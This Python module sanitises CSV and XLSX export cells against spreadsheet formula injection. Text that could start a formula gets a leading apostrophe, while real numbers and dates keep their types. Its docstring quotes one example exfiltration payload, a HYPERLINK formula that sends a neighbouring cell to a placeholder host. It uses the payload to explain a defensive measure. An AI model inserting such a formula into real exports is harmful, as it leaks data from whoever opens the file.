"""The one cell writer for every CSV and XLSX file we hand out.

A spreadsheet program runs a text cell that starts with ``=``, ``+``, ``-`` or ``@`` (and,
in some programs, a tab or a carriage return) as a formula: a member named
``=HYPERLINK("http://x/?"&B2,"Click")`` would send the neighbouring cells to a stranger
when HQ opens the export. Every such text cell gets a leading ``'`` so it stays inert
text; real numbers stay numbers (a negative amount is a number, not text), so
accountants' sums still work.
"""

from __future__ import annotations

import csv
import datetime as dt
from collections.abc import Iterable
from decimal import Decimal
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def cell(value: object) -> object:
    """A value safe to put in a CSV or XLSX cell: numbers as numbers, dates in ISO form,
    ``None`` as an empty cell, and text that cannot start a formula."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return int(value)
    if isinstance(value, int | float | Decimal):
        return value
    if isinstance(value, dt.datetime | dt.date):
        return value.isoformat()
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def row(values: Iterable[object]) -> list[object]:
    """Every value of one row through :func:`cell`."""
    return [cell(value) for value in values]


class CsvWriter:
    """``csv.writer`` whose every row goes through :func:`cell` (the only way our code
    writes CSV)."""

    def __init__(self, out: Any, **options: Any) -> None:
        self._writer = csv.writer(out, **options)

    def writerow(self, values: Iterable[object]) -> Any:
        return self._writer.writerow(row(values))

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for values in rows:
            self.writerow(values)


def csv_writer(out: Any, **options: Any) -> CsvWriter:
    """A CSV writer over ``out`` (any object with ``write``) with formula-safe cells;
    ``options`` are ``csv.writer``'s (``lineterminator``, ``dialect``...)."""
    return CsvWriter(out, **options)


def xlsx_append(sheet: Any, values: Iterable[object]) -> None:
    """Append one row to an openpyxl worksheet with formula-safe cells."""
    sheet.append(row(values))
